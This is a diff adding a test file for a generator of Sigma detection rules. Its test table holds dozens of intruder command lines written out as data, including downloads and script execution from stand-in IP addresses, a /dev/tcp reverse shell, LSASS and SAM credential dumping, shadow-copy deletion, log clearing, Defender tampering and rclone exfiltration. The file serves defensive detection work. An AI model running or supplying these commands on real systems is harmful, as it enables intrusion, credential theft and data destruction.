@@ -1,0 +1,157 @@
+import { validateRuleDocument } from '../validate/validate-rule';
+import { selfTestRule } from '../evaluate/self-test';
+import { fidelityCheck } from '../vetting/fidelity';
+import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
+import { knownSpellings, meetsSelection, techniqueOf } from './technique-match';
+import { TECHNIQUES } from './techniques';
+
+const article = { title: 'Notes on an intrusion', url: 'https://research.example.org/notes', date: '2026-11-27' };
+const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9, executable: '' };
+
+// Command lines as intruders type them, written for these tests: [technique id, platform, command line].
+const SHOWN: Array<[string, TemplatePlatform, string]> = [
+  ['certutil-download', 'windows', 'certutil.exe /urlcache /split /f http://198.51.100.4/p.txt C:\\Users\\Public\\p.exe'],
+  ['certutil-decode', 'windows', 'certutil -decode C:\\ProgramData\\b64.txt C:\\ProgramData\\run.dll'],
+  ['bitsadmin-download', 'windows', 'bitsadmin /transfer job1 /download /priority high http://198.51.100.4/t.exe C:\\Temp\\t.exe'],
+  ['finger-remote-commands', 'windows', 'finger relay@198.51.100.8'],
+  ['lsass-dump-comsvcs', 'windows', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\ProgramData\\out.bin full'],
+  ['procdump-lsass', 'windows', 'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp'],
+  ['reg-save-hive', 'windows', 'reg save HKLM\\SAM C:\\ProgramData\\s.hiv /y'],
+  ['ntdsutil-ifm', 'windows', 'ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q'],
+  ['vssadmin-delete-shadows', 'windows', 'vssadmin.exe Delete Shadows /All /Quiet'],
+  ['wmic-delete-shadows', 'windows', 'wmic shadowcopy delete /nointeractive'],
+  ['wbadmin-delete', 'windows', 'wbadmin delete catalog -quiet'],
+  ['bcdedit-recovery', 'windows', 'bcdedit /set {default} recoveryenabled No'],
+  ['wevtutil-clear', 'windows', 'wevtutil cl Security'],
+  ['powershell-clear-eventlog', 'windows', 'powershell -c "Clear-EventLog -LogName Application,System"'],
+  ['fsutil-usn-delete', 'windows', 'fsutil usn deletejournal /D C:'],
+  ['defender-preference-tamper', 'windows', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
+  ['defender-exclusion', 'windows', 'Add-MpPreference -ExclusionPath C:\\ProgramData\\cache'],
+  ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
+  ['netsh-portproxy', 'windows', 'netsh interface portproxy add v4tov4 listenport=4443 connectaddress=10.1.2.3 connectport=3389'],
+  ['net-user-add', 'windows', 'net user svc_backup P@ssw0rd1 /add'],
+  ['net-admin-group-add', 'windows', 'net localgroup Administrators svc_backup /add'],
+  ['nltest-trusts', 'windows', 'nltest /domain_trusts /all_trusts'],
+  ['bcdedit-elam', 'windows', 'bcdedit.exe /set {current} disableelamdrivers yes'],
+  ['psexec-remote', 'windows', 'PsExec64.exe \\\\FS02 -accepteula -s cmd /c C:\\Windows\\Temp\\d.bat'],
+  ['wmic-remote-process', 'windows', 'wmic /node:10.20.30.40 /user:corp\\adm process call create "cmd /c C:\\Temp\\r.bat"'],
+  ['pcalua-proxy', 'windows', 'pcalua.exe -a C:\\Users\\Public\\loader.exe'],
+  ['powershell-dns-txt', 'windows', 'powershell -w h -c "iex (Resolve-DnsName -Type TXT cfg.stage-relay.example).Strings"'],
+  ['anydesk-password', 'windows', 'AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent'],
+  ['ad-enumeration-tools', 'windows', 'adfind.exe -f "(objectcategory=computer)" -csv name'],
+  ['rclone-transfer', 'windows', 'rclone.exe copy \\\\FS02\\finance remote:loot --transfers 8 -q'],
+  ['mimikatz-commands', 'windows', 'C:\\Temp\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
+  ['crypto-miner', 'linux', 'tar -xzf /tmp/xmrig-6.21.0-linux-static-x64.tar.gz -C /tmp/.x'],
+  ['mshta-remote', 'windows', 'mshta.exe https://cdn-relay.example/app.hta'],
+  ['regsvr32-scriptlet', 'windows', 'regsvr32 /s /n /u /i:http://198.51.100.9/x.sct scrobj.dll'],
+  ['msiexec-remote', 'windows', 'msiexec /q /i https://updates-relay.example/agent.msi'],
+  ['shadow-copy-create', 'windows', 'vssadmin create shadow /for=C:'],
+  ['shadow-delete-powershell', 'windows', 'powershell -c "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"'],
+  ['icacls-everyone-full', 'windows', 'icacls "C:\\*" /grant Everyone:F /T /C /Q'],
+  ['net-domain-groups', 'windows', 'net group "Domain Admins" /domain'],
+  ['whoami-privileges', 'windows', 'whoami /priv'],
+  ['aws-cli-iam-persistence', 'linux', 'aws iam create-access-key --user-name svc-backup'],
+  ['aws-cli-secrets', 'linux', 'aws secretsmanager get-secret-value --secret-id prod/db --region us-east-1'],
+  ['offensive-powershell', 'windows', 'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.2/a.ps1\'); Invoke-ShareFinder -CheckShareAccess"'],
+  ['kerberos-ticket-tools', 'windows', 'C:\\Users\\Public\\svc.exe kerberoast /outfile:C:\\Users\\Public\\h.txt'],
+  ['impacket-exec-output', 'windows', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.25 2>&1'],
+  ['dev-tcp-shell', 'linux', 'bash -c "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"'],
+  ['python-pty-shell', 'linux', 'python3 -c \'import pty; pty.spawn("/bin/bash")\''],
+  ['xattr-quarantine', 'macos', 'xattr -d com.apple.quarantine /tmp/Installer.app'],
+  ['dscl-authonly', 'macos', 'dscl /Local/Default -authonly jdoe hunter2'],
+  ['security-keychain', 'macos', 'security find-generic-password -ga "Chrome" -w'],
+  ['osascript-dialog', 'macos', 'osascript -e \'display dialog "Enter your password" default answer "" with hidden answer\''],
+  ['system-profiler', 'macos', 'system_profiler SPHardwareDataType'],
+  ['ditto-archive', 'macos', 'ditto -c -k --sequesterRsrc --keepParent /tmp/out /tmp/out.zip'],
+  ['spctl-disable', 'macos', 'spctl --master-disable'],
+  ['chattr-immutable', 'linux', 'chattr -i /etc/ld.so.preload'],
+  ['firewall-flush', 'linux', 'iptables -F'],
+  ['uid0-account', 'linux', 'useradd -o -u 0 -g 0 -M sysadm'],
+  ['proc-hidepid', 'linux', 'mount -o remount,rw,hidepid=2 /proc'],
+  ['container-escape', 'linux', 'nsenter -t 1 -m -u -i -n sh'],
+];
+
+describe('well-known techniques: rules keyed on the behaviour', () => {
+  it('has a command line of ours for every technique of the table', () => {
+    expect(new Set(SHOWN.map(([id]) => id))).toEqual(new Set(TECHNIQUES.map((technique) => technique.id)));
+  });
+
+  it.each(SHOWN)('%s: a valid rule that fires on the command and not on ordinary machines', (id, platform, commandLine) => {
+    const drafts = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] });
+    const technique = TECHNIQUES.find((entry) => entry.id === id);
+    const draft = drafts.find((candidate) => candidate.rule.title === technique?.title);
+    expect(draft).toBeDefined();
+    const rule = draft?.rule as unknown as Record<string, unknown>;
+    expect(validateRuleDocument(rule).findings).toEqual([]);
+    const selfTest = selfTestRule(rule, [{ type: 'cmdline', value: commandLine }]);
+    expect(selfTest.fires).toBe(true);
+    expect(selfTest.baseline?.fires ?? 0).toBe(0);
+    // Every value is stated by the command or is a known spelling of the behaviour it shows.
+    expect(fidelityCheck(draft?.detectionValues ?? [], [commandLine]).unsupported_values).toEqual([]);
+  });
+
+  it('keys an LSASS dump through comsvcs.dll on MiniDump, not on the dump file name', () => {
+    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map((draft) => draft.rule);
+    expect(rule?.detection).toEqual({
+      selection_1: { 'Image|endswith': '\\rundll32.exe', 'CommandLine|contains': 'comsvcs' },
+      selection_2: { 'CommandLine|contains': ['MiniDump', '#24', '#+24', '#0024'] },
+      condition: 'all of selection_*',
+    });
+    expect(JSON.stringify(rule?.detection)).not.toContain('out.bin');
+    expect(rule?.tags).toEqual(['attack.credential-access', 'attack.t1003.001']);
+  });
+
+  it('also fires on the spellings the article did not use', () => {
+    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map((draft) => draft.rule);
+    const variant = selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'rundll32 C:\\windows\\system32\\comsvcs.dll #24 612 D:\\x.dmp full' }]);
+    expect(variant.fires).toBe(true);
+    const [certutil] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[0]?.[2] ?? '' }] }).map((draft) => draft.rule);
+    expect(selfTestRule(certutil as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'certutil -urlcache -f https://203.0.113.9/x x.exe' }]).fires).toBe(true);
+  });
+
+  it('gives one rule per technique however many commands show it, and leaves other commands to their own rules', () => {
+    const drafts = generateBuiltinRules({
+      article,
+      platform: 'windows',
+      cmdlines: ['vssadmin delete shadows /all /quiet', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB', 'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start'].map((value) => ({ ...item, value })),
+    });
+    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Shadow Copies Deleted Via Vssadmin.EXE', 'Rundll32.EXE Execution Of DLL From Unusual Location']);
+  });
+
+  it('writes the rule of a technique any program shows besides the program\'s own rule', () => {
+    const drafts = generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value: 'curl -sL http://198.51.100.4/xmrig-6.21.0.tar.gz -o /tmp/.cache/x.tgz' }] });
+    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Cryptocurrency Miner Downloaded Or Run', 'Curl Download From Remote Host']);
+    expect(drafts[0]?.rule.detection).toEqual({
+      selection: { 'CommandLine|contains': ['xmrig', 'stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', '--donate-level', '--cpu-max-threads-hint', 'nicehash'] },
+      condition: 'selection',
+    });
+  });
+
+  it('keys PsExec on a remote host or a host list, not on any path', () => {
+    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: 'PsExec.exe -h @hosts.txt -d -c C:\\Temp\\1.bat' }] }).map((draft) => draft.rule);
+    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'PsExec.exe \\\\FS02 -s cmd' }]).fires).toBe(true);
+    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' }]).fires).toBe(false);
+  });
+
+  it('needs the program and the pattern on the platform the table names', () => {
+    expect(techniqueOf('certutil.exe', 'certutil -hashfile a.exe SHA256', 'windows')).toBeNull();
+    expect(techniqueOf('notcertutil.exe', 'notcertutil -urlcache -f http://x', 'windows')).toBeNull();
+    expect(techniqueOf('xattr', 'xattr -c /tmp/a.app', 'linux')).toBeNull();
+    expect(techniqueOf('xattr', 'xattr -l /tmp/a.app', 'macos')).toBeNull();
+    expect(techniqueOf('rundll32.exe', 'rundll32 C:\\x\\comsvcs.dll,MiniDump 1 a full', 'windows')?.id).toBe('lsass-dump-comsvcs');
+  });
+
+  it('matches CommandLine selections as Sigma does: case-insensitive, windash spellings, all or any', () => {
+    expect(meetsSelection({ 'CommandLine|contains|windash': '-urlcache' }, 'CERTUTIL /URLCACHE')).toBe(true);
+    expect(meetsSelection({ 'CommandLine|contains|all': ['usn', 'deletejournal'] }, 'fsutil usn query')).toBe(false);
+    expect(meetsSelection({ 'CommandLine|contains': ['a1', 'b2'] }, 'x b2')).toBe(true);
+    expect(meetsSelection({ 'Image|endswith': '\\x.exe' }, 'x')).toBe(false);
+  });
+
+  it('backs the other spellings of a technique the text shows, and nothing else', () => {
+    const known = knownSpellings('The actor ran rundll32 comsvcs.dll, MiniDump against LSASS.');
+    expect(known.has('#24')).toBe(true);
+    expect(known.has('-urlcache')).toBe(false);
+    expect(knownSpellings('Dumping memory is common.').size).toBe(0);
+  });
+});
